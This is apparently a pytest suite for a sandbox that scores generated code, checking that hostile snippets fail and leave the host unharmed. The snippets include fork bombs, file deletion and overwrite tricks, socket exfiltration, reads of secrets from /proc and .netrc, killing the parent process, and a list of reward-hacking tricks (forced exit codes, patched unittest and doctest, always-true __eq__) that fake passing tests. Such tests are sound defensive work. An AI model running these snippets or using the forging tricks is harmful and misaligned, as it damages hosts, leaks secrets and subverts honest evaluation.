"Hostile generated code in the real sandbox: each snippet is scored as not passed AND the host is unharmed."

import os, socket, statistics, subprocess, sys, tempfile, threading, time
from pathlib import Path
import pytest
from llm_workbench.eval import sandbox
from llm_workbench.eval.sandbox import run_sandboxed, run_with_tests, run_with_examples, run_many

SECRET = 's3cr3t-7f3a9c1e55'


def _leftover_procs(base: Path) -> list[str]:
    "Live processes whose command line names a sandbox dir under `base` (a fork keeps the bootstrap's argv)."
    out, key = [], os.fsencode(str(base))
    for p in Path('/proc').iterdir():
        if not p.name.isdigit():
            continue
        try:
            cmd, state = (p / 'cmdline').read_bytes(), (p / 'stat').read_text().rsplit(')', 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if key in cmd and state != 'Z':
            out.append(p.name)
    return out


FULL = {'bwrap': True, 'landlock': True, 'audit_hook': True}
WEAK = {'bwrap': False, 'landlock': False, 'audit_hook': True}  # the weakest configuration the sandbox allows


@pytest.fixture(params=['full', 'weak'], autouse=True)
def layers(request, monkeypatch, tmp_path):
    """Run every test with full isolation (bubblewrap + seccomp + Landlock + audit hook) and with the weakest one the
    sandbox accepts (seccomp + rlimits + separate harness, no bubblewrap, no Landlock; opted in). Afterwards the host
    must be clean."""
    if request.param == 'full':
        if sandbox._bwrap_works():
            pytest.skip(f'no full isolation here: {sandbox._bwrap_works()}')
        monkeypatch.setattr(sandbox, '_LAYERS', dict(FULL))
    else:
        monkeypatch.setattr(sandbox, '_LAYERS', dict(WEAK))
        monkeypatch.setattr(sandbox, '_ALLOW_WEAK', True)
    sbx = tmp_path / 'sbx'
    sbx.mkdir()
    monkeypatch.setattr(tempfile, 'tempdir', str(sbx))  # the sandbox dirs land here, so we can check them
    yield request.param
    assert list(sbx.iterdir()) == [], 'a throwaway dir was left behind'
    for _ in range(20):
        if not _leftover_procs(sbx):
            break
        time.sleep(0.05)
    assert _leftover_procs(sbx) == [], 'a sandboxed process outlived its run'


@pytest.fixture
def host(tmp_path):
    "A host directory with a sentinel file the snippets try to damage."
    d = tmp_path / 'host'
    d.mkdir()
    (d / 'sentinel.txt').write_text('precious')
    return d


def _intact(host: Path):
    assert (host / 'sentinel.txt').read_text() == 'precious'
    assert sorted(p.name for p in host.iterdir()) == ['sentinel.txt']


def test_leftover_check_sees_a_running_sandbox(layers):
    "The host checks of the autouse fixture are real: during a run the sandbox process is visible, afterwards gone."
    base, seen = Path(tempfile.tempdir), []
    t = threading.Thread(target=lambda: seen.append(run_sandboxed('import time\ntime.sleep(0.6)')))
    t.start()
    time.sleep(0.3)
    during, dirs = _leftover_procs(base), list(base.iterdir())
    t.join()
    assert during and len(dirs) == 1 and seen[0].passed, (during, dirs, seen)
    assert _leftover_procs(base) == [] and list(base.iterdir()) == []


def test_correct_program_passes_fast(capsys):
    code = 'import json, re, collections\nprint(json.dumps(collections.Counter(re.findall("a", "banana"))))'
    rs = [run_sandboxed(code) for _ in range(5)]
    assert all(r.passed for r in rs), rs[0]
    assert rs[0].stdout == '{"a": 3}\n'
    med = statistics.median(r.seconds for r in rs)
    assert med < 0.5, med
    with capsys.disabled():
        print(f'\n  per-run overhead (median of 5): {med * 1000:.0f} ms; layers: {rs[0].isolation}')


def test_legitimate_stdlib_use_is_not_blocked():
    code = '''
import asyncio, dataclasses, itertools, os, tempfile, threading, math, json, subprocess
@dataclasses.dataclass
class P: x: int
async def twice(v): await asyncio.sleep(0); return 2 * v
assert asyncio.run(twice(21)) == 42
with tempfile.NamedTemporaryFile('w', delete=False) as f: f.write('hi')
assert open(f.name).read() == 'hi' and f.name.startswith(os.getcwd())
os.makedirs('a/b'); os.rename(f.name, 'a/b/c.txt'); os.remove('a/b/c.txt')
with open('/dev/null', 'w') as f: f.write('x')
res = []
t = threading.Thread(target=lambda: res.append(math.factorial(10))); t.start(); t.join()
assert res == [3628800] and P(1).x == 1 and len(open('/etc/passwd').read()) > 0
print('ok')
'''
    r = run_sandboxed(code)
    assert r.status == 'passed' and r.stdout == 'ok\n', r


@pytest.mark.parametrize(
    'code',
    [
        'import os\nwhile True: os.fork()',
        'import subprocess, sys\nwhile True: subprocess.Popen([sys.executable, "-c", "pass"])',
        'import os\nos.system(":(){ :|:& };:")',
        'import multiprocessing as mp\nwhile True: mp.Process(target=print).start()',
        'import _posixsubprocess, sys\nsys.modules.pop("_posixsubprocess")\nimport _posixsubprocess',
        'import os\nwhile True:\n    try: os.fork()\n    except OSError: pass',
    ],
    ids=['os.fork', 'subprocess', 'shell', 'multiprocessing', 'fork_exec-reimport', 'fork-caught'],
)
def test_fork_bombs(code):
    r = run_sandboxed(code, timeout=5)
    assert not r.passed and r.status in ('blocked', 'failed'), r
    assert r.seconds < 3, r.seconds


def test_infinite_loop():
    r = run_sandboxed('while True: pass', timeout=1)
    assert r.status == 'timeout' and 1 <= r.seconds < 3, r


@pytest.mark.parametrize(
    'code',
    [
        'import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGALRM):\n    signal.signal(s, signal.SIG_IGN)\nwhile True: pass',
        'import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: time.sleep(0.05)',
        'import os\ntry: os.setsid()\nexcept OSError: pass\nwhile True: pass',
    ],
    ids=['ignore-signals', 'sleeping', 'setsid'],
)
def test_escaping_the_time_limit(code):
    r = run_sandboxed(code, timeout=1)
    assert r.status == 'timeout' and r.seconds < 3, r


@pytest.mark.parametrize(
    'code',
    [
        'x = bytearray(8 * 2**30)',
        'xs = []\nwhile True: xs.append(bytearray(50 * 2**20))',
        'x = "a" * (4 * 2**30)',
    ],
)
def test_memory_hog(code):
    r = run_sandboxed(code, memory_mb=256)
    assert r.status == 'memory', r


@pytest.mark.parametrize(
    'tmpl',
    [
        'import os\nos.remove({f!r})',
        'import shutil\nshutil.rmtree({d!r})',
        'import os\nos.rename({f!r}, "stolen.txt")',
        'import os\nos.replace("x", {f!r}) if open("x", "w").write("evil") else None',
        'open({f!r}, "w").write("evil")',
        'open({f!r}, "a").write("evil")',
        'import pathlib\npathlib.Path({f!r}).unlink()',
        'import os\nos.chmod({f!r}, 0)',
        'import os\nos.truncate({f!r}, 0)',
        'import os\nos.symlink({f!r}, "link")\nopen("link", "w").write("evil")',
        'import os\nos.link({f!r}, "hard")\nopen("hard", "w").write("evil")',
        'import os\nfd = os.open({d!r}, os.O_RDONLY)\nos.unlink("sentinel.txt", dir_fd=fd)',
        'import os\nfd = os.open({d!r}, os.O_RDONLY)\nos.close(os.open("sentinel.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=fd))',
        'import os\nos.chdir({d!r})\nos.remove("sentinel.txt")',
        'import os\nos.chdir("..")\nos.remove({f!r})',
        'open({new!r}, "w").write("evil")',
        'import os, posixpath, builtins\nposixpath.realpath = os.path.realpath = lambda p, **k: os.getcwd()\nbuiltins.isinstance = lambda *a: False\nos.remove({f!r})',
        'import os\nos.mkdir({newdir!r})',
        'import shutil\nshutil.copyfile("/etc/hostname", {new!r})',
        'import shutil, os\nos.mkdir("t"); shutil.move("t", {newdir!r})',
    ],
    ids=[
        'remove',
        'rmtree',
        'rename',
        'replace',
        'overwrite',
        'append',
        'pathlib',
        'chmod',
        'truncate',
        'symlink',
        'hardlink',
        'dir_fd-unlink',
        'dir_fd-open',
        'chdir',
        'dotdot',
        'create',
        'monkeypatch',
        'mkdir',
        'copyfile',
        'move',
    ],
)
def test_deleting_and_writing_outside(host, tmpl):
    f, d = str(host / 'sentinel.txt'), str(host)
    r = run_sandboxed(tmpl.format(f=f, d=d, new=str(host / 'new.txt'), newdir=str(host / 'newdir')))
    assert not r.passed, r
    _intact(host)


def test_writes_to_system_places_fail(tmp_path):
    name = f'llmwb-evil-{os.getpid()}'
    r = run_sandboxed(f'open("/tmp/{name}", "w").write("x")\nopen("/dev/shm/{name}", "w").write("x")')
    assert not r.passed and not Path(f'/tmp/{name}').exists() and not Path(f'/dev/shm/{name}').exists(), r


def test_disk_hog():
    r = run_sandboxed(
        'for i in range(10000):\n    with open(f"f{i}", "wb") as f: f.write(b"x" * (8 << 20))', timeout=10
    )
    assert not r.passed and r.seconds < 8, r


@pytest.fixture
def listener():
    "A TCP server on 127.0.0.1 that records everything it receives."
    srv = socket.socket()
    srv.bind(('127.0.0.1', 0))
    srv.listen()
    srv.settimeout(0.2)
    got, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except OSError:
                continue
            got.append(b'<connected>')
            c.settimeout(1)
            try:
                got.append(c.recv(1000))
            except OSError:
                pass
            c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    yield srv.getsockname()[1], got
    stop.set()
    t.join()
    srv.close()


@pytest.mark.parametrize(
    'tmpl',
    [
        'import socket\ns = socket.create_connection(("127.0.0.1", {port}), timeout=2)\ns.sendall(b"exfil")',
        'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", {port}))\ns.sendall(b"exfil")',
        'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("127.0.0.1", {port}))',
        'import urllib.request\nurllib.request.urlopen("http://127.0.0.1:{port}/exfil", timeout=2)',
        'import socket\nsocket.getaddrinfo("example.com", 80)',
        'import socket\na, b = socket.socketpair()\nb.connect(("127.0.0.1", {port}))',
    ],
    ids=['create_connection', 'connect', 'udp', 'urllib', 'dns', 'unix-then-connect'],
)
def test_sockets(listener, tmpl):
    port, got = listener
    r = run_sandboxed(tmpl.format(port=port))
    time.sleep(0.3)
    assert not r.passed, r
    assert got == [], got


def test_secrets_invisible(monkeypatch, tmp_path):
    monkeypatch.setenv('LLMWB_SANDBOX_SECRET', SECRET)
    home = tmp_path / 'home'
    (home / '.config').mkdir(parents=True)
    (home / '.netrc').write_text(f'machine x password {SECRET}\n')
    (home / '.config' / 'token').write_text(SECRET)
    monkeypatch.setenv('HOME', str(home))
    code = f'''
import os
seen = [repr(dict(os.environ)), open('/proc/self/environ').read()]
for p in ['/proc/{os.getpid()}/environ', '/proc/{os.getppid()}/environ', '/proc/1/environ', {str(home / '.netrc')!r},
          {str(home / '.config' / 'token')!r}, os.path.expanduser('~/.netrc')]:
    try: seen.append(open(p).read())
    except Exception as e: seen.append(repr(e))
try: seen += os.listdir({str(home)!r})
except Exception as e: seen.append(repr(e))
print(seen)
assert ''.join(reversed({SECRET[::-1]!r})) in ' '.join(seen), 'no secret found'
'''
    r = run_sandboxed(code)
    assert not r.passed, r
    assert SECRET not in r.stdout + r.stderr and 'LLMWB_SANDBOX_SECRET' not in r.stdout + r.stderr
    assert "'.netrc'" not in r.stdout  # the home dir cannot be listed


@pytest.mark.parametrize(
    'code',
    [
        'import os\nos.kill(os.getppid(), 9)',
        f'import os\nos.kill({os.getpid()}, 9)',
        f'import os\nos.killpg(os.getpgid({os.getpid()}), 9)',
        'import os\nos.kill(-1, 9)',
    ],
    ids=['getppid', 'pid', 'killpg', 'everyone'],
)
def test_killing_the_parent(code):
    r = run_sandboxed(code)
    assert not r.passed, r  # and we are still here to check it


def test_output_flood():
    r = run_sandboxed('while True: print("x" * 10000)', timeout=10, max_output=5000)
    assert not r.passed and r.seconds < 5, r
    assert len(r.stdout) <= 5000 + 100 and len(r.stderr) <= 5000 + 300


def test_ctypes_and_introspection_blocked():
    for code in ['import ctypes\nctypes.CDLL("libc.so.6").fork()', 'import gc\ngc.get_objects()']:
        r = run_sandboxed(code)
        assert r.status == 'blocked', (code, r)


def test_caught_refusal_still_scored_blocked(host):
    r = run_sandboxed(
        f'import os\ntry: os.remove({str(host / "sentinel.txt")!r})\nexcept PermissionError: pass\nprint("fine")'
    )
    assert r.status == 'blocked' and r.stdout == 'fine\n' and r.refused, r
    _intact(host)


def test_throwaway_dir_is_removed():
    r = run_sandboxed(
        'import os\nprint(os.getcwd())\nopen("f.txt", "w").write("x")\nos.mkdir("d")\nos.chmod("d", 0)'
    )
    assert r.passed, r
    d = r.stdout.strip()
    assert os.path.basename(d).startswith('llmwb-sbx-') and not os.path.exists(d)


def test_run_with_tests_and_early_exit():
    prog = 'def add(a, b):\n    return a + b\n'
    assert run_with_tests(prog, 'assert add(2, 3) == 5').passed
    assert run_with_tests(prog, 'assert add(2, 3) == 6').status == 'failed'
    for cheat in ('exit()', 'import sys; sys.exit(0)', 'import os; os._exit(0)', 'raise SystemExit'):
        r = run_with_tests(prog + cheat, 'assert add(2, 3) == 6')
        assert r.status == 'failed', (cheat, r)


def test_run_many_in_order():
    prog = 'def sq(x):\n    return x * x\n'
    jobs = [(prog, f'assert sq({i}) == {i * i if i % 2 else -1}') for i in range(6)] + [
        ('while True: pass', '')
    ]
    rs = run_many(jobs, workers=3, timeout=1)
    assert [r.status for r in rs] == ['failed', 'passed', 'failed', 'passed', 'failed', 'passed', 'timeout']


@pytest.mark.parametrize(
    'tmpl',
    [
        'import os\nwhile True:\n    try: os.fork()\n    except OSError: pass',
        'import os\nif os.fork() == 0:\n    os.setsid()\n    while True: pass\nwhile True: pass',
        'import os\nos.remove({f!r})',
        'open({f!r}, "w").write("evil")',
        'open({new!r}, "w").write("evil")',
        'import socket\nsocket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"exfil")',
        'import os\nos.kill({ppid}, 9)',
        'for i in range(1000):\n    open(f"f{{i}}", "wb").write(b"x" * (8 << 20))',
    ],
    ids=['fork-bomb', 'setsid-escape', 'remove', 'overwrite', 'create', 'socket', 'kill-parent', 'disk'],
)
def test_os_layers_alone_protect_the_host(layers, monkeypatch, host, listener, tmpl):
    "With the audit hook off, bubblewrap, seccomp, Landlock and rlimits still hold."
    if layers == 'weak':
        pytest.skip('this test checks the full OS layers')
    monkeypatch.setattr(sandbox, '_LAYERS', {**FULL, 'audit_hook': False})
    iso = run_sandboxed('pass').isolation
    assert iso['netns'] and iso['mntns'] and iso['pidns'] and iso['seccomp'] and iso['level'] == 'full', iso
    port, got = listener
    r = run_sandboxed(
        tmpl.format(f=str(host / 'sentinel.txt'), new=str(host / 'new.txt'), port=port, ppid=os.getpid()),
        timeout=2,
    )
    time.sleep(0.2)
    assert not r.passed and not r.isolation['audit_hook'], r
    assert got == [] and r.seconds < 4
    _intact(host)


# ---- A score the program cannot forge: the verdict comes from the separate harness, never from the program ----

WRONG_ADD = 'def add(a, b):\n    return a - b\n'
FORGES = {
    'print-success': 'print("passed")\nprint("OK: all tests passed")',
    'os-exit-0': 'import os\nos._exit(0)',
    'sys-exit-0': 'import sys\nsys.exit(0)',
    'patch-os': 'import os\n_w, _e = os.write, os._exit\nos.write = lambda fd, b: _w(fd, b"passed\\n")\nos._exit = lambda c: _e(0)',
    'patch-builtins': 'import builtins\nclass _A(Exception): pass\nbuiltins.AssertionError = _A\nbuiltins.__build_class__ = None',
    'patch-doctest': 'import doctest\ndoctest.OutputChecker.check_output = lambda *a: True\n'
    'doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 1)',
    'patch-unittest': 'import unittest\nunittest.TestCase.assertEqual = lambda *a, **k: None',
    'frames': 'import sys\nf = sys._getframe()\nwhile f is not None:\n    for k, v in list(f.f_globals.items()):\n'
    '        if isinstance(v, str) and "verdict" in v: print(v)\n    f = f.f_back\nprint("verdict passed")',
    'atexit': 'import atexit, os\natexit.register(lambda: os._exit(0))',
    'excepthook': 'import sys\nsys.excepthook = lambda *a: None\nsys.unraisablehook = lambda *a: None',
    'thread-exit': 'import os, threading, time\n'
    'threading.Thread(target=lambda: (time.sleep(0.05), os._exit(0)), daemon=True).start()',
    'write-all-fds': 'import os\nfor fd in range(3, 64):\n    try: os.write(fd, b"verdict passed\\n" * 10)\n    except OSError: pass',
    'lying-eq': 'class _Any:\n    def __eq__(self, o): return True\n    __hash__ = None\n    def __bool__(self): return True\n'
    'def add(a, b):\n    return _Any()',
    'lying-int': 'class _I(int):\n    def __eq__(self, o): return True\n    __hash__ = int.__hash__\n'
    'def add(a, b):\n    return _I(0)',
    'exit-when-called': 'import os\ndef add(a, b):\n    os._exit(0)',
    'kill-harness': 'import os, signal\ntry: os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError: pass',
    'read-harness': 'import os, glob\nfor p in glob.glob(f"/proc/{os.getppid()}/*"):\n    try: print(open(p, "rb").read()[:2000])\n'
    '    except Exception as e: pass',
}


@pytest.mark.parametrize('forge', FORGES.values(), ids=FORGES.keys())
def test_forged_passes_fail(forge):
    "A wrong `add` plus a trick to fake success: assert-style tests and doctest examples both score it not passed."
    prog = WRONG_ADD + forge + '\n'
    r = run_with_tests(prog, 'assert add(2, 3) == 5\nassert add(1, 1) == 2')
    assert r.status in ('failed', 'blocked', 'crashed'), r
    r = run_with_examples(prog, [('add(2, 3)', '5'), ('add(1, 1)', '2')])
    assert r.status in ('failed', 'blocked', 'crashed'), r


def test_honest_solution_passes_both_forms():
    prog = 'def add(a, b):\n    return a + b\n'
    assert run_with_tests(prog, 'def check(candidate):\n    assert candidate(2, 3) == 5\ncheck(add)').passed
    r = run_with_examples(
        prog,
        [
            ('add(2, 3)', '5'),
            ('print(add(1, 1))', '2'),
            ('add("a", 1)', '', 'TypeError: can only concatenate str (not "int") to str'),
        ],
    )
    assert r.passed, r


def test_harness_values_and_remote_objects():
    "Builtin results travel as values (nan, sets, bytes, nested); other objects are remote and refuse comparisons."
    prog = '''import math
from collections import Counter, namedtuple
P = namedtuple('P', 'x y')
class Box:
    def __init__(self, v): self.v = v
    def get(self): return self.v
    def __len__(self): return 3
def f(x): return [x, (1, 2.5), {'a': {1, 2}}, b'\\x00', None, True, complex(1, 2), 2 ** 100, math.inf]
def g(): return Counter('aab'), P(1, 2), Box(7)
def gen(n): yield from range(n)
def boom(): raise ValueError('bad input')
LIMIT = 10
'''
    tests = '''import math
assert f('s') == ['s', (1, 2.5), {'a': {1, 2}}, b'\\x00', None, True, complex(1, 2), 2 ** 100, math.inf]
c, p, box = g()
assert c == {'a': 2, 'b': 1} and p == (1, 2) and LIMIT == 10
assert box.get() == 7 and len(box) == 3 and box.v == 7 and list(gen(3)) == [0, 1, 2]
try: box == 7
except TypeError as e: assert 'cannot be compared' in str(e)
else: raise AssertionError('a remote object compared')
try: boom()
except ValueError as e: assert 'bad input' in str(e)
else: raise AssertionError('no ValueError')
assert math.isnan(f(math.nan)[0])
'''
    r = run_with_tests(prog, tests)
    assert r.passed, r


# ---- Hostile classes that get past an audit hook: the OS layers hold them (hook switched off here) ----


@pytest.fixture
def no_hook(layers, monkeypatch):
    monkeypatch.setattr(sandbox, '_LAYERS', {**sandbox._LAYERS, 'audit_hook': False})
    return layers


PROCESS_CLASSES = {  # seccomp denies these everywhere, full or weak
    'subinterp-system': 'import _xxsubinterpreters as si\nn = si.create()\n'
    'si.run_string(n, "import os\\nassert os.system(\'echo pwn > {new}\') == 0")',
    'subinterp-fork': 'import _xxsubinterpreters as si\nn = si.create()\nsi.run_string(n, "import os\\nos.fork()")',
    'mkfifo': 'import os\nos.mkfifo({fifo!r})',
    'mkfifo-local': 'import os\nos.mkfifo("here")',
    'mknod': 'import os, stat\nos.mknod({fifo!r}, stat.S_IFIFO | 0o600)',
    'setsid-child': 'import os\nif os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(30)',
    'x32-fork': 'import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.syscall(0x40000000 | 57) >= 0',
    'clone-process': 'import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.syscall(56, 17, 0, 0, 0, 0) >= 0',
}


@pytest.mark.parametrize('tmpl', PROCESS_CLASSES.values(), ids=PROCESS_CLASSES.keys())
def test_process_creation_denied_without_hook(no_hook, host, tmpl):
    r = run_sandboxed(tmpl.format(new=str(host / 'new.txt'), fifo=str(host / 'fifo')), timeout=3)
    assert not r.passed and r.seconds < 3, r
    assert r.isolation['seccomp'] and not r.isolation['audit_hook'], r.isolation
    _intact(host)


def test_pidfd_and_signals_cannot_reach_a_host_process(no_hook):
    victim = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(30)'])
    try:
        for code in (
            f'import os, signal\nsignal.pidfd_send_signal(os.pidfd_open({victim.pid}), signal.SIGKILL)',
            f'import os\nos.kill({victim.pid}, 9)',
            f'import ctypes\nassert ctypes.CDLL(None).syscall(129, {victim.pid}, 9, 0) == 0',  # rt_sigqueueinfo
            f'import ctypes\nassert ctypes.CDLL(None).syscall(200, {victim.pid}, 9) == 0',
        ):  # tkill
            r = run_sandboxed(code)
            assert not r.passed, (code, r)
            time.sleep(0.05)
            assert victim.poll() is None, code
    finally:
        victim.kill()
        victim.wait()


def test_unix_socket_to_a_host_listener(no_hook, tmp_path):
    path = str(tmp_path / 'host.sock')
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(path)
    srv.listen()
    srv.settimeout(0.5)
    try:
        for code in (
            f'import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.sendall(b"exfil")',
            f'import socket\ns = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\ns.sendto(b"x", {path!r})',
        ):
            r = run_sandboxed(code)
            assert not r.passed, r
            with pytest.raises(OSError):
                srv.accept()
    finally:
        srv.close()


def test_no_privileges_inside(no_hook):
    "No capabilities anywhere; uid nobody under bubblewrap (the old uid switch silently kept root)."
    r = run_sandboxed(
        'import os\nprint(os.getuid())\nprint([l for l in open("/proc/self/status") if l.startswith("Cap")])'
    )
    assert r.passed, r
    assert "CapEff:\\t0000000000000000" in r.stdout and "CapPrm:\\t0000000000000000" in r.stdout, r.stdout
    if no_hook == 'full':
        assert r.stdout.startswith('65534\n'), r.stdout


FILE_CLASSES = {  # file and /proc isolation: bubblewrap's fresh root, or Landlock without it
    'subinterp-write': 'import _xxsubinterpreters as si\nn = si.create()\nsi.run_string(n, "open({f!r}, \'w\').write(\'evil\')")',
    'str-subclass': 'class S(str):\n    def startswith(self, *a): return True\n    def __str__(self): return "ok.txt"\n'
    '    def __fspath__(self): return self\nopen(S({f!r}), "w").write("evil")',
    'dir_fd-open': 'import os\nfd = os.open({d!r}, os.O_RDONLY)\n'
    'os.write(os.open("sentinel.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=fd), b"evil")',
    'sqlite3': 'import sqlite3\nsqlite3.connect({new!r}).execute("create table t (x)")',
    'parent-environ': 'import os\nseen = []\nfor p in ("/proc/{pid}/environ", f"/proc/{{os.getppid()}}/environ", "/proc/1/environ"):\n'
    '    try: seen.append(open(p, "rb").read())\n    except OSError: pass\n'
    'assert any("{secret}"[::-1].encode() in s for s in seen), "no secret"',
    'home-secret': 'print(open({netrc!r}).read())',
}


@pytest.mark.parametrize('files', ['bwrap', 'landlock', 'none'])
@pytest.mark.parametrize('tmpl', FILE_CLASSES.values(), ids=FILE_CLASSES.keys())
def test_file_isolation_without_hook(no_hook, monkeypatch, host, tmp_path, tmpl, files):
    """Writes outside and reads of other processes' secrets fail with bubblewrap (full) or Landlock (weak + Landlock).
    Without either, the result says so (file_isolation False): weak isolation is honest, not pretended."""
    if no_hook == 'weak' and files == 'bwrap' or no_hook == 'full' and files != 'bwrap':
        pytest.skip('not this combination')
    if files == 'landlock':
        monkeypatch.setattr(sandbox, '_LAYERS', {**sandbox._LAYERS, 'landlock': True})
    netrc = tmp_path / '.netrc'
    netrc.write_text(f'machine x password {SECRET}\n')
    monkeypatch.setenv('LLMWB_SANDBOX_SECRET', SECRET)
    code = tmpl.format(
        f=str(host / 'sentinel.txt'),
        d=str(host),
        new=str(host / 'new.db'),
        pid=os.getpid(),
        secret=SECRET[::-1],
        netrc=str(netrc),
    )
    r = run_sandboxed(code)
    if files == 'none':
        assert (
            r.isolation['level'] == 'weak'
            and r.isolation['file_isolation'] is False
            and not r.isolation['landlock']
        )
        pytest.skip('weak isolation without Landlock does not claim file isolation (and reports so)')
    if files == 'landlock' and not r.isolation['landlock']:
        pytest.skip('no Landlock in this kernel')
    assert r.isolation['file_isolation'], r.isolation
    assert not r.passed and SECRET not in r.stdout + r.stderr, r
    _intact(host)


def test_program_never_sees_the_tests(no_hook):
    "Scanning its own memory and every readable /proc entry when called, the program finds no trace of the tests."
    prog = '''import glob, re
def _scan():
    mark, hits = re.compile(rb'MARKER-7c1[e]'), []        # a pattern that does not match its own text
    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
        for line in maps:
            span, perms = line.split()[:2]
            a, b = (int(x, 16) for x in span.split('-'))
            if 'r' not in perms or b - a > 1 << 26: continue
            try:
                mem.seek(a)
                if mark.search(mem.read(b - a)): hits.append(line)
            except (OSError, ValueError, OverflowError): pass
    for p in glob.glob('/proc/*/*'):
        try:
            if mark.search(open(p, 'rb').read(1 << 20)): hits.append(p)
        except Exception: pass
    return hits
def add(a, b):
    print('HITS', _scan())
    return a + b
'''
    r = run_with_tests(prog, '# MARKER-7c1e\nassert add(2, 3) == 5', timeout=20)
    assert r.passed, r
    assert 'HITS []' in r.stdout, r.stdout[-2000:]
    r = run_with_tests(
        prog + 'print("MARKER-7c1e")\n', 'assert add(2, 3) == 5', timeout=20
    )  # the scan does work
    assert "HITS ['" in r.stdout, r.stdout[-2000:]


def test_refuses_without_full_isolation(monkeypatch):
    "No bubblewrap and no opt-in: nothing runs, and the message says what to do; the probe states the level."
    monkeypatch.setattr(sandbox, '_LAYERS', dict(WEAK))
    monkeypatch.setattr(sandbox, '_ALLOW_WEAK', False)
    with pytest.raises(sandbox.SandboxUnavailable, match='allow_weak_isolation'):
        run_with_tests('x = 1', 'assert x == 1')
    assert run_with_tests('x = 1', 'assert x == 1', allow_weak_isolation=True).isolation['level'] == 'weak'
    assert sandbox.isolation_probe(allow_weak_isolation=False)['level'] == 'none'
    p = sandbox.isolation_probe()
    assert p['level'] == 'weak' and p['seccomp'] and not p['bwrap'] and p['weak_reason'], p
